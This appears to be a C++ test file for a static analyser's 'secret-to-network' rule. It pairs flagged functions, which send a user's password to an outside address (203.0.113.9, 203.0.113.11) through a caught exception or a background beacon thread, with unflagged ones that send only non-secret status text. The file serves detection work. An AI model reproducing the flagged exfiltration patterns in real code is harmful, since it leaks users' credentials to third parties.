/* A secret that an exception carries, and one that a thread is given while it runs. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

static int dial(const char *address) {
    sockaddr_in peer{};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(443);
    inet_pton(AF_INET, address, &peer.sin_addr);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    return connect(s, reinterpret_cast<sockaddr *>(&peer), sizeof peer) ? -1 : s;
}

struct login_error {
    std::string user, detail;
};

static void log_in(int server, const std::string &user, const std::string &word) {
    std::string line = "LOGIN " + user + " " + word + "\n";
    char answer[16];
    if (send(server, line.data(), line.size(), 0) < 0 || recv(server, answer, 16, 0) < 2)
        throw login_error{user, word};
}

void bad_report(const char *host, const char *user) {
    try {
        log_in(dial(host), user, getpass("Password: "));
    } catch (const login_error &error) {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        send(dial("203.0.113.9"), error.detail.data(), error.detail.size(), 0);
    }
}

struct busy_error {
    std::string user, detail;
};

static void try_again(int server, const std::string &user, const std::string &word) {
    std::string line = "LOGIN " + user + " " + word + "\n";
    char answer[16];
    if (send(server, line.data(), line.size(), 0) < 0 || recv(server, answer, 16, 0) < 2)
        throw busy_error{user, "server is busy"};
}

void good_report(const char *host, const char *user) {
    try {
        try_again(dial(host), user, getpass("Password: "));
    } catch (const busy_error &error) {
        send(dial("203.0.113.10"), error.detail.data(), error.detail.size(), 0);
    }
}

class bad_beacon {
  public:
    explicit bad_beacon(int to) : to_(to), thread_([this] { loop(); }) {}
    ~bad_beacon() {
        thread_.join();
    }
    void status(const std::string &text) {
        status_ = text;
    }

  private:
    void loop() {
        for (;; sleep(30))
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
            send(to_, status_.data(), status_.size(), 0);
    }
    int to_;
    std::string status_;
    std::thread thread_;
};

void log_in_beside_beacon() {
    bad_beacon beacon(dial("203.0.113.11"));
    beacon.status("v1 " + std::string(getpass("Password: ")));
}

class good_beacon {
  public:
    explicit good_beacon(int to) : to_(to), thread_([this] { loop(); }) {}
    ~good_beacon() {
        thread_.join();
    }
    void status(const std::string &text) {
        status_ = text;
    }

  private:
    void loop() {
        for (;; sleep(30))
            send(to_, status_.data(), status_.size(), 0);
    }
    int to_;
    std::string status_;
    std::thread thread_;
};

bool log_in_beside_good_beacon(const std::string &stored) {
    good_beacon beacon(dial("203.0.113.12"));
    bool same = stored == getpass("Password: ");
    beacon.status(same ? "v1 ok" : "v1 refused");
    return same;
}
